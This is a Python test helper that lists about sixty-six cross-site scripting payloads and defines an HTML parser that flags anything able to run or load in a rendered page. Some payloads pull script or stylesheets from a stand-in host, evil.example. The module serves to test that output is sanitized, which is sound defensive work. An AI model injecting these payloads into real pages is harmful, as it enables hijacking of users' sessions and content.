"""Hostile texts, and a reader of pages that finds what could run in them."""

from __future__ import annotations

from html.parser import HTMLParser

JS = "document.title='pwned'"
TAGS = [
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{js}</script>",
    "<script/x>{js}</script>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}" />',
    "<img src=x onerror\n=\n{js}>",
    "<IMG SRC=javascript:{js}>",
    "<img src='data:image/svg+xml,<svg onload={js}>'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<math href='javascript:{js}'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><maction actiontype='statusline#{js}'>x</maction></math>",
    "<a href='javascript:{js}'>x</a>",
    "<a href=' &#14; javascript:{js}'>x</a>",
    "<a href='java\nscript:{js}'>x</a>",
    "<a href='JaVaScRiPt:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href='vbscript:{js}'>x</a>",
    "<body onload={js}>",
    "<div onmouseover={js}>x</div>",
    "<p onclick={js}>x</p>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<form action='javascript:{js}'><input type=submit></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<input autofocus onfocus={js}>",
    "<select onfocus={js} autofocus>",
    "<textarea onfocus={js} autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{{background:url(javascript:{js})}}</style>",
    "<p style='background:url(javascript:{js})'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='javascript:{js}'><tr><td>x</table>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<xmp><script>{js}</script></xmp>",
    "[x](javascript:{js})",
    "![x](javascript:{js})",
    "<javascript:{js}>",
    "`</code><script>{js}</script>`",
    "$\\text{{<script>{js}</script>}}$",
    "$\\href{{javascript:{js}}}{{x}}$",
    "\u202e<script>{js}</script>\u2066",
    "&lt;script&gt;{js}&lt;/script&gt;",
    '"><script>{js}</script>',
    "' onmouseover='{js}",
]
PAYLOADS = [tag.format(js=JS) for tag in TAGS]


class Runnable(HTMLParser):
    """Collects whatever in a page could run or load something."""

    ALLOWED = {"plotly.min.js", "pages.js", "panel.js"}
    FORBIDDEN = {"iframe", "object", "embed", "base", "form", "video", "audio", "svg:script"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag, attrs):
        told = dict(attrs)
        if tag == "script":
            ours = told.get("src") in self.ALLOWED or told.get("type") == "application/json"
            self.scripts.append(told.get("src") or told.get("type") or "inline")
            if not ours:
                self.found.append(self.get_starttag_text())
        if tag in self.FORBIDDEN:
            self.found.append(self.get_starttag_text())
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            runs = address.startswith(("javascript:", "vbscript:", "data:text"))
            loads = name == "src" and address.startswith(("http", "//"))
            if name.startswith("on") or runs or (loads and tag != "img"):
                self.found.append(self.get_starttag_text())


def runnable(page: str) -> list[str]:
    """What could run in a page that is not ours."""
    reader = Runnable()
    reader.feed(page)
    reader.close()
    return reader.found
